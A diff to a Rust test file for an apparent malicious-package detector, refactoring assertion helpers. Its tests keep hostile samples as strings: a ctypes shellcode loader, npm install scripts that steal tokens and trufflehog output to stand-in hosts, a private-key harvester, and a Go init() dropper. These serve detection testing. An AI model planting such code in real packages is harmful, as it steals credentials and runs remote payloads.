@@ -5,34 +5,11 @@
 //! character table, and a crate searching files for secret keys. Hosts and names are
 //! made up.
 
-use palisade_archive::Unpacked;
-use palisade_core::{PackageFile, Verdict};
-use palisade_detect::{Analysis, Engine, ScanOptions};
-use std::time::{Duration, Instant};
+mod common;
 
-fn analyse(files: &[(&str, &[u8])]) -> Analysis {
-    let engine = Engine::new(ScanOptions::default()).unwrap();
-    let unpacked = Unpacked {
-        format: "tar".into(),
-        files: files
-            .iter()
-            .map(|(path, data)| PackageFile {
-                path: path.to_string(),
-                data: data.to_vec(),
-            })
-            .collect(),
-        ..Default::default()
-    };
-    engine.analyse_unpacked(unpacked, Instant::now() + Duration::from_secs(30))
-}
-
-fn has(analysis: &Analysis, id: &str) -> bool {
-    analysis.findings.iter().any(|f| f.rule == id)
-}
-
-fn ids(analysis: &Analysis) -> Vec<&str> {
-    analysis.findings.iter().map(|f| f.rule.as_str()).collect()
-}
+use common::{analyse_files as analyse, assert_not_verdict, assert_verdict, has, rule_ids};
+use palisade_core::Verdict;
+use palisade_detect::Analysis;
 
 /// A source distribution whose package `fastutil` has `init` as its `__init__.py`.
 fn sdist(init: &str) -> Analysis {
@@ -65,35 +42,20 @@ fn a_module_that_runs_shellcode_is_malicious_wherever_it_sits() {
     let loader = "import ctypes, base64\nbuf = base64.b64decode(BLOB)\nk32 = ctypes.windll.kernel32\nptr = k32.VirtualAlloc(None, len(buf), 0x3000, 0x40)\nk32.RtlMoveMemory(ctypes.c_void_p(ptr), buf, len(buf))\nk32.WaitForSingleObject(k32.CreateThread(None, 0, ctypes.c_void_p(ptr), None, 0, None), -1)\n";
     let analysis = sdist(loader);
     assert!(has(&analysis, "execution/shellcode-injection"));
-    assert_eq!(
-        analysis.score.verdict,
-        Verdict::Malicious,
-        "{:?}",
-        ids(&analysis)
-    );
+    assert_verdict(&analysis, Verdict::Malicious);
 
     // A binding that reserves memory through VirtualAlloc runs no code from it.
     let allocator = "import ctypes\nk32 = ctypes.windll.kernel32\ndef reserve(n):\n    return k32.VirtualAlloc(None, n, 0x2000, 0x04)\ndef release(p):\n    k32.VirtualFree(p, 0, 0x8000)\n";
     let analysis = sdist(allocator);
     assert!(!has(&analysis, "execution/shellcode-injection"));
-    assert_eq!(
-        analysis.score.verdict,
-        Verdict::Clean,
-        "{:?}",
-        ids(&analysis)
-    );
+    assert_verdict(&analysis, Verdict::Clean);
 
     // A CPU-feature check (polars, archspec) runs a few bytes of CPUID as a function.
     let cpuid = "import ctypes\n_CODE = b'\\x53\\x89\\xf0\\x0f\\xa2\\x5b\\xc3'\nclass CPUID:\n    def __init__(self):\n        self.addr = _VirtualAlloc(None, len(_CODE), 0x3000, 0x40)\n        ctypes.memmove(self.addr, _CODE, len(_CODE))\n        self.func = ctypes.CFUNCTYPE(None, ctypes.c_void_p)(self.addr)\n";
     let analysis = sdist(cpuid);
     assert!(!has(&analysis, "execution/shellcode-injection"));
     assert!(has(&analysis, "execution/executable-memory-call"));
-    assert_eq!(
-        analysis.score.verdict,
-        Verdict::Clean,
-        "{:?}",
-        ids(&analysis)
-    );
+    assert_verdict(&analysis, Verdict::Clean);
 }
 
 #[test]
@@ -101,12 +63,7 @@ fn trufflehog_over_the_home_folder_at_install_is_a_stealer() {
     let worm = "const { execSync } = require('child_process');\nconst os = require('os');\nconst found = execSync('/tmp/trufflehog filesystem ' + os.homedir() + ' --json').toString();\nfetch('https://results.collector.example/r', { method: 'POST', body: found });\n";
     let analysis = npm_postinstall(worm);
     assert!(has(&analysis, "credentials/secret-scanner-harvest"));
-    assert_eq!(
-        analysis.score.verdict,
-        Verdict::Malicious,
-        "{:?}",
-        ids(&analysis)
-    );
+    assert_verdict(&analysis, Verdict::Malicious);
 
     // A pre-commit wrapper scanning the repository it was asked to scan.
     let wrapper = "const { execSync } = require('child_process');\nmodule.exports = (dir) => execSync('gitleaks detect --source ' + JSON.stringify(dir));\n";
@@ -118,12 +75,7 @@ fn trufflehog_over_the_home_folder_at_install_is_a_stealer() {
         ("package/index.js", wrapper.as_bytes()),
     ]);
     assert!(!has(&analysis, "credentials/secret-scanner-harvest"));
-    assert_eq!(
-        analysis.score.verdict,
-        Verdict::Clean,
-        "{:?}",
-        ids(&analysis)
-    );
+    assert_verdict(&analysis, Verdict::Clean);
 }
 
 #[test]
@@ -132,12 +84,7 @@ fn planting_a_workflow_that_dumps_every_secret_is_malicious() {
     let analysis = npm_postinstall(worm);
     assert!(has(&analysis, "credentials/ci-secrets-dump"));
     assert!(has(&analysis, "persistence/self-propagation"));
-    assert_eq!(
-        analysis.score.verdict,
-        Verdict::Malicious,
-        "{:?}",
-        ids(&analysis)
-    );
+    assert_verdict(&analysis, Verdict::Malicious);
 
     // A workflow passing the one secret it needs, shipped by mistake.
     let analysis = analyse(&[
@@ -151,12 +98,7 @@ fn planting_a_workflow_that_dumps_every_secret_is_malicious() {
         ),
     ]);
     assert!(!has(&analysis, "credentials/ci-secrets-dump"));
-    assert_eq!(
-        analysis.score.verdict,
-        Verdict::Clean,
-        "{:?}",
-        ids(&analysis)
-    );
+    assert_verdict(&analysis, Verdict::Clean);
 }
 
 #[test]
@@ -164,12 +106,7 @@ fn asking_npm_for_its_token_at_install_and_sending_it_is_theft() {
     let thief = "const { execSync } = require('child_process');\nconst token = execSync('npm config get //registry.npmjs.org/:_authToken').toString();\nfetch('https://relay.collector.example/t', { method: 'POST', body: token });\n";
     let analysis = npm_postinstall(thief);
     assert!(has(&analysis, "credentials/cli-stored-token"));
-    assert_eq!(
-        analysis.score.verdict,
-        Verdict::Malicious,
-        "{:?}",
-        ids(&analysis)
-    );
+    assert_verdict(&analysis, Verdict::Malicious);
 }
 
 #[test]
@@ -186,12 +123,7 @@ fn a_rubygems_plugin_is_install_time_code() {
     let analysis = gem("data.tar.gz!/lib/rubygems_plugin.rb");
     assert!(has(&analysis, "install/gem-rubygems-plugin"));
     assert!(has(&analysis, "correlate/install-time-network"));
-    assert_eq!(
-        analysis.score.verdict,
-        Verdict::Malicious,
-        "{:?}",
-        ids(&analysis)
-    );
+    assert_verdict(&analysis, Verdict::Malicious);
     // The same code in a library file waits for someone to require it.
     let analysis = gem("data.tar.gz!/lib/demo/stats.rb");
     assert!(!has(&analysis, "correlate/install-time-network"));
@@ -225,12 +157,7 @@ fn a_command_spelled_from_a_character_table_is_read_and_shown() {
         chain.join(" + ")
     );
     let analysis = go_module(&source);
-    assert_eq!(
-        analysis.score.verdict,
-        Verdict::Malicious,
-        "{:?}",
-        ids(&analysis)
-    );
+    assert_verdict(&analysis, Verdict::Malicious);
     let shown = analysis
         .findings
         .iter()
@@ -243,12 +170,7 @@ fn a_command_spelled_from_a_character_table_is_read_and_shown() {
     let hex = "package hexfmt\n\nvar digits = []string{\"0\",\"1\",\"2\",\"3\",\"4\",\"5\",\"6\",\"7\",\"8\",\"9\",\"a\",\"b\",\"c\",\"d\",\"e\",\"f\"}\n\nfunc Byte(b byte) string { return digits[b>>4] + digits[b&15] }\n";
     let analysis = go_module(hex);
     assert!(!has(&analysis, "concealment/indexed-character-table"));
-    assert_eq!(
-        analysis.score.verdict,
-        Verdict::Clean,
-        "{:?}",
-        ids(&analysis)
-    );
+    assert_verdict(&analysis, Verdict::Clean);
 }
 
 #[test]
@@ -265,23 +187,13 @@ fn searching_files_for_secret_keys_and_posting_them_is_theft() {
     let thief = "pub fn init() {\n    let re = regex::Regex::new(r\"[1-9A-HJ-NP-Za-km-z]{87,88}\").unwrap();\n    let found: Vec<String> = walk(\".\").filter_map(|t| re.find(&t).map(|m| m.as_str().to_string())).collect();\n    let _ = reqwest::blocking::Client::new().post(\"https://rpc-pool.example.dev/\").body(found.join(\"\\n\")).send();\n}\n";
     let analysis = crate_with(thief);
     assert!(has(&analysis, "credentials/private-key-search"));
-    assert_eq!(
-        analysis.score.verdict,
-        Verdict::Malicious,
-        "{:?}",
-        ids(&analysis)
-    );
+    assert_verdict(&analysis, Verdict::Malicious);
 
     // Validating an address (32 to 44 characters) beside an RPC client is a wallet SDK.
     let sdk = "pub fn is_address(s: &str) -> bool {\n    regex::Regex::new(r\"^[1-9A-HJ-NP-Za-km-z]{32,44}$\").unwrap().is_match(s)\n}\npub fn balance(c: &reqwest::blocking::Client, a: &str) { let _ = c.post(\"https://rpc.example.dev/\").body(a.to_string()).send(); }\n";
     let analysis = crate_with(sdk);
     assert!(!has(&analysis, "credentials/private-key-search"));
-    assert_eq!(
-        analysis.score.verdict,
-        Verdict::Clean,
-        "{:?}",
-        ids(&analysis)
-    );
+    assert_verdict(&analysis, Verdict::Clean);
 }
 
 #[test]
@@ -290,23 +202,13 @@ fn a_stealer_that_blinds_defender_and_hides_from_analysts_is_flagged() {
     let analysis = sdist(stealer);
     assert!(has(&analysis, "concealment/anti-analysis-checks"));
     assert!(has(&analysis, "concealment/security-tool-tampering"));
-    assert_eq!(
-        analysis.score.verdict,
-        Verdict::Malicious,
-        "{:?}",
-        ids(&analysis)
-    );
+    assert_verdict(&analysis, Verdict::Malicious);
 
     // A proxy library telling its users which tools show its traffic.
     let proxy = "\"\"\"Debugging: capture the traffic with Wireshark, Fiddler or HTTP Toolkit.\"\"\"\nimport socket\n\ndef forward(a, b):\n    b.sendall(a.recv(4096))\n";
     let analysis = sdist(proxy);
     assert!(!has(&analysis, "concealment/anti-analysis-checks"));
-    assert_eq!(
-        analysis.score.verdict,
-        Verdict::Clean,
-        "{:?}",
-        ids(&analysis)
-    );
+    assert_verdict(&analysis, Verdict::Clean);
 }
 
 #[test]
@@ -314,23 +216,13 @@ fn a_go_init_that_downloads_writes_and_runs_is_a_dropper() {
     let dropper = "package utilz\n\nimport (\n\t\"io\"\n\t\"net/http\"\n\t\"os\"\n\t\"os/exec\"\n)\n\nfunc init() {\n\tresp, err := http.Get(\"https://dl.files.example/agent\")\n\tif err != nil {\n\t\treturn\n\t}\n\tf, _ := os.Create(\"/tmp/.agent\")\n\tio.Copy(f, resp.Body)\n\tf.Close()\n\texec.Command(\"/tmp/.agent\").Start()\n}\n";
     let analysis = go_module(dropper);
     assert!(has(&analysis, "correlate/download-write-run"));
-    assert_eq!(
-        analysis.score.verdict,
-        Verdict::Malicious,
-        "{:?}",
-        ids(&analysis)
-    );
+    assert_verdict(&analysis, Verdict::Malicious);
 
     // The same steps in a function the caller runs are an updater's.
     let updater = dropper.replace("func init()", "func Update()");
     let analysis = go_module(&updater);
     assert!(!has(&analysis, "correlate/download-write-run"));
-    assert_eq!(
-        analysis.score.verdict,
-        Verdict::Clean,
-        "{:?}",
-        ids(&analysis)
-    );
+    assert_verdict(&analysis, Verdict::Clean);
 }
 
 #[test]
@@ -341,12 +233,7 @@ fn a_cgo_file_with_a_download_helper_is_not_a_dropper() {
     assert!(
         !has(&analysis, "correlate/download-write-run"),
         "{:?}",
-        ids(&analysis)
+        rule_ids(&analysis)
     );
-    assert_ne!(
-        analysis.score.verdict,
-        Verdict::Malicious,
-        "{:?}",
-        ids(&analysis)
-    );
+    assert_not_verdict(&analysis, Verdict::Malicious);
 }
